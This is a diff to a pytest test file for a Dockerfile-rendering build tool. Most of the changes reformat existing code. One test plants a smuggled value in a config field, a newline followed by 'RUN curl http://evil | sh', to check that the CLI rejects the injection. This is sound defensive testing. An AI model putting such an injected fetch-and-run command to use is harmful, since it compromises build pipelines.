@@ -11,9 +11,9 @@ from pathlib import Path
 import jinja2
 import pytest
 
+from builder.cli import main
 from builder.config import contract, matrix
 from builder.dockerfile import render
-from builder.cli import main
 from tests.conftest import REPO
 
 PATH = Path("matrix.yaml")
@@ -24,8 +24,10 @@ def cu129():
     return matrix.load(REPO / "matrix.yaml").target("cu129")
 
 
-RENDER = ("import sys; from pathlib import Path; from builder.config import matrix; from builder.dockerfile import render; "
-          "sys.stdout.write(render.render(matrix.load(Path('matrix.yaml')).target('cu129')))")
+RENDER = (
+    "import sys; from pathlib import Path; from builder.config import matrix; from builder.dockerfile import render; "
+    "sys.stdout.write(render.render(matrix.load(Path('matrix.yaml')).target('cu129')))"
+)
 
 
 def _render_in_a_new_process(seed: str) -> str:
@@ -50,8 +52,9 @@ def test_sets_in_the_matrix_render_in_a_fixed_order(cu129):
     ctx = render.template_vars(cu129)
     for key in ("apt_packages", "secrets", "compile_env", "runtime_env", "labels"):
         assert list(ctx[key]) == sorted(ctx[key]), key
-    reordered = cu129.model_copy(update={"compile": cu129.compile.model_copy(
-        update={"env": dict(reversed(list(cu129.compile.env.items())))})})
+    reordered = cu129.model_copy(
+        update={"compile": cu129.compile.model_copy(update={"env": dict(reversed(list(cu129.compile.env.items())))})}
+    )
     assert render.render(reordered) == render.render(cu129)
 
 
@@ -120,8 +123,9 @@ def test_render_check_cli_detects_hand_edits(tmp_path, capsys):
 
 def test_injected_newline_is_rejected_and_nothing_is_written(tmp_path, capsys):
     m = tmp_path / "matrix.yaml"
-    m.write_text((REPO / "matrix.yaml").read_text().replace(
-        "version: 2.30.7", 'version: "2.30.7\\nRUN curl http://evil | sh"'))
+    m.write_text(
+        (REPO / "matrix.yaml").read_text().replace("version: 2.30.7", 'version: "2.30.7\\nRUN curl http://evil | sh"')
+    )
     with pytest.raises(SystemExit) as exit_info:
         main(["--matrix", str(m), "render"])
     assert exit_info.value.code == 2
@@ -155,8 +159,14 @@ def test_third_party_sources_get_a_context_a_mount_and_their_variable(cu129):
     for tp in tps:
         spec = cu129.source.third_party[tp["name"]]
         mount = f"{render.THIRD_PARTY_ROOT}/{tp['name']}"
-        assert tp == {"name": tp["name"], "context": f"tp-{tp['name']}", "mount": mount, "env": spec.env,
-                      "cmake_var": spec.cmake_var, "path": f"{mount}/{spec.subdir}" if spec.subdir else mount}
+        assert tp == {
+            "name": tp["name"],
+            "context": f"tp-{tp['name']}",
+            "mount": mount,
+            "env": spec.env,
+            "cmake_var": spec.cmake_var,
+            "path": f"{mount}/{spec.subdir}" if spec.subdir else mount,
+        }
 
 
 def test_flash_attention_goes_to_fetchcontent_not_to_its_developer_mode_variable(cu129):
@@ -184,7 +194,7 @@ def test_the_build_stage_asserts_every_tool_the_source_runs(cu129):
 
 def test_the_remote_cache_stage_lets_git_use_only_local_files(cu129):
     text = render.render(cu129)
-    remote = text[text.index("FROM build AS compile-remote-cache"):text.index("AS compiled")]
+    remote = text[text.index("FROM build AS compile-remote-cache") : text.index("AS compiled")]
     assert "export GIT_ALLOW_PROTOCOL=file" in remote
 
 
@@ -237,6 +247,7 @@ def test_the_scripts_the_build_runs_are_named_by_sha256_in_the_dockerfile(cu129,
     import hashlib
 
     from builder.deps import buildcontext
+
     text = render.render(cu129)
     named = render.scripts_named(text)
     assert set(named) == {"tools/layer_files.py", "python/relocate.py"}
